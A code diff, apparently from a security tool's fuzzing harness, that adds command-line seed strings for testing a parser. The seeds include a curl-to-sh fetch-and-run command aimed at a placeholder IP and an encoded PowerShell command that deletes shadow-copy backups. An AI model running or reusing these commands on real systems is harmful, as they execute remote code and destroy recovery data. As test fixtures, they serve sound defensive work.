@@ -35,8 +35,19 @@ const TEXT: &[&str] = &[
     r"HKLM\Software\X C:\Windows\System32\cmd.exe /usr/bin/sh d41d8cd98f00b204e9800998ecf8427e",
     "1BoatSLRHtKNngkdXEeobR76b53LETtpyT T1059.001 CVE-2021-44228 00:1a:2b:3c:4d:5e",
 ];
+/// The rules' own examples are the best command lines; these have quotes and blocks.
+const COMMAND_LINES: &[&str] = &[
+    r#""C:\a b\x.exe" "c:\dir\\" "say \"hi\"" a\\\"b"#,
+    r#"sh -c 'echo "a b" | base64 -d; curl http://203.0.113.7/a|sh' \ x"#,
+    "$a=@\"\nx;{\n\"@;if($a){\"b$(c ';)')\"|%{$_};d} # e;f\n<# g #>",
+    "powershell -nop -enc dgBzAHMAYQBkAG0AaQBuACAAZABlAGwAZQB0AGUAIABzAGgAYQBkAG8AdwBzAA==",
+    include_str!("../../src/transform/command_line/rules.json"),
+];
 
 fn main() -> io::Result<()> {
+    for (i, seed) in COMMAND_LINES.iter().enumerate() {
+        add("command_line", &format!("{i}"), &seed.as_bytes()[..seed.len().min(MAX_BYTES)])?;
+    }
     for (target, seeds) in [
         ("csv", CSV),
         ("json", JSON),
